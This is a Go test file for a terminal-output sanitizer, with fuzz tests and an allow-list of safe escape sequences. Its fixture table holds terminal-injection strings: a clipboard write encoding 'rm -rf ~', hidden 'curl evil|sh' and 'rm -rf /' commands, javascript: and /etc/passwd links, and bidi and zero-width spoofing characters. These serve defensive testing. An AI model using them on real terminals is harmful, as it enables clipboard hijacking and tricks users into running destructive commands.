package safe_test

import (
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/cloudmastershub/cmh/tui/safe"
)

// attacks are texts that have taken over terminals or fooled their readers.
// plain is what a reader may see of each.
var attacks = []struct{ name, text, plain string }{
	{"clipboard", "hello \x1b]52;c;cm0gLXJmIH4K\x07 world", "hello  world"},
	{"window title", "hello \x1b]0;pwned\x1b\\ world", "hello  world"},
	{"clear screen", "hello \x1b[2J\x1b[H world", "hello  world"},
	{"asks the terminal to type", "hello \x1b[6n\x1bP$qm\x1b\\ world", "hello  world"},
	{"bidi override", "user\u202enimda", "usernimda"},
	{"bidi isolate", "a\u2066b\u2069c", "abc"},
	{"spoofed link", "\x1b]8;;javascript:alert(1)\x07https://docs.good\x1b]8;;\x07", "https://docs.good"},
	{"file link", "\x1b]8;;file:///etc/passwd\x1b\\x\x1b]8;;\x1b\\", "x"},
	{"backspaces", "rm -rf /\b\b\b\bls", "rm -rf /ls"},
	{"carriage return", "curl evil|sh\rls", "curl evil|shls"},
	{"tag characters", "hi\U000E0041\U000E0042", "hi"},
	{"zero width", "a\u200bb\u2060c\ufeffd\u00ade", "abcde"},
	{"eight-bit controls", "a\u009b2Jb\u0090c", "a2Jbc"},
	{"raw eight-bit control", "a\x9b2Jb", "a\ufffd2Jb"},
	{"charset switch", "a\x1b(0b\x0ec", "abc"},
	{"reset", "a\x1bcb", "ab"},
	{"mouse and paste modes", "a\x1b[?1000h\x1b[?2004lb", "ab"},
	{"keyboard protocol", "a\x1b[>31ub", "ab"},
	{"application command", "a\x1b_Gf=100;AAAA\x1b\\b", "ab"},
	{"unfinished", "a\x1b]52;c;AAAA", "a]52;c;AAAA"},
	{"unfinished control", "a\x1b[31", "a[31"},
	{"escape in an escape", "a\x1b\x1b[2Jb", "ab"},
	{"hidden joiner", "pay\u200dpal", "paypal"},
	{"filler", "a\u3164\u115fb", "ab"},
	{"NUL and DEL", "a\x00b\x7fc", "abc"},
	{"marks that overflow the line", "e" + strings.Repeat("\u0301", 40), "e" + strings.Repeat("\u0301", 6)},
}

func TestTextTakesTheTeethOutOfAttacks(t *testing.T) {
	t.Parallel()
	for _, tt := range attacks {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := safe.Text(tt.text); got != tt.plain {
				t.Errorf("Text(%q) = %q, want %q", tt.text, got, tt.plain)
			}
			if got := safe.Styled(tt.text); strip(got) != tt.plain {
				t.Errorf("Styled(%q) = %q, want %q and nothing but style around it", tt.text, got, tt.plain)
			}
		})
	}
}

func TestTextKeepsWhatPeopleWrite(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		"plain", "two\nlines\tand a tab", "世界", "café", "e\u0301", "👩\u200d👩\u200d👧", "❤\ufe0f\u200d🔥", "1\ufe0f\u20e3",
		"می\u200cخواهم", "क्\u200dष", "🇳🇱", "👍🏽", "─│┌", "№ 5 — “quoted”", "عربي", "עברית",
	} {
		if got := safe.Text(s); got != s {
			t.Errorf("Text(%q) = %q", s, got)
		}
		if got := safe.Styled(s); got != s {
			t.Errorf("Styled(%q) = %q", s, got)
		}
	}
}

func TestLineIsOneLine(t *testing.T) {
	t.Parallel()
	if got, want := safe.Line(" a\n\tb\u2028c \x1b[2J\n"), "a b c"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestStyledKeepsStyleAndClosesIt(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ name, in, want string }{
		{"colour", "\x1b[1;31mred\x1b[0m", "\x1b[1;31mred\x1b[m"},
		{"true colour", "\x1b[38;2;1;2;3mx\x1b[m", "\x1b[38;2;1;2;3mx\x1b[m"},
		{"colour number eight", "\x1b[38;5;8mx\x1b[m", "\x1b[38;5;8mx\x1b[m"},
		{"underline shapes", "\x1b[4:3mx\x1b[m", "\x1b[4:3mx\x1b[m"},
		{"left open", "\x1b[31mred", "\x1b[31mred\x1b[m"},
		{"concealed", "\x1b[8mhidden\x1b[m", "hidden\x1b[m"},
		{"concealed among others", "\x1b[1;08mhidden", "hidden"},
		{"private SGR", "\x1b[>4;2mx\x1b[?4mx", "xx"},
		{"link", "\x1b]8;id=1;https://a.example/\x07x\x1b]8;;\x07", "\x1b]8;id=1;https://a.example/\x1b\\x\x1b]8;;\x1b\\"},
		{"link left open", "\x1b]8;;http://a.example\x1b\\x", "\x1b]8;;http://a.example\x1b\\x\x1b]8;;\x1b\\"},
		{"link to nowhere", "\x1b]8;;https:///x\x1b\\x", "\x1b]8;;\x1b\\x"},
		{"link with a space", "\x1b]8;;https://a b\x1b\\x", "\x1b]8;;\x1b\\x"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := safe.Styled(tt.in); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

// allowed is the oracle: written apart from the filter, it names every
// sequence that may be in its output.
var allowed = regexp.MustCompile(`\x1b\[[0-9;:]*m|\x1b\]8;[A-Za-z0-9=:_.-]*;(?i:https?)://[!-~]+\x1b\\|\x1b\]8;;\x1b\\`)

func strip(s string) string { return allowed.ReplaceAllString(s, "") }

func harmless(s string) bool {
	return utf8.ValidString(s) && !strings.ContainsFunc(s, func(r rune) bool {
		return r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r < 0xa0 ||
			r == 0x61c || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 ||
			r == 0x200b || r == 0x200e || r == 0x200f || r == 0x2060 || r == 0xfeff || r >= 0xe0000 && r <= 0xe0fff
	})
}

func FuzzText(f *testing.F) {
	for _, tt := range attacks {
		f.Add(tt.text)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := safe.Text(s)
		if !harmless(got) {
			t.Errorf("Text(%q) = %q", s, got)
		}
		if again := safe.Text(got); again != got {
			t.Errorf("Text twice: %q then %q", got, again)
		}
	})
}

func FuzzStyled(f *testing.F) {
	for _, tt := range attacks {
		f.Add(tt.text)
		f.Add("\x1b[31m" + tt.text + "\x1b]8;;https://a.example\x07")
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := safe.Styled(s)
		if !harmless(strip(got)) {
			t.Errorf("Styled(%q) = %q", s, got)
		}
		if again := safe.Styled(got); again != got {
			t.Errorf("Styled twice: %q then %q", got, again)
		}
	})
}
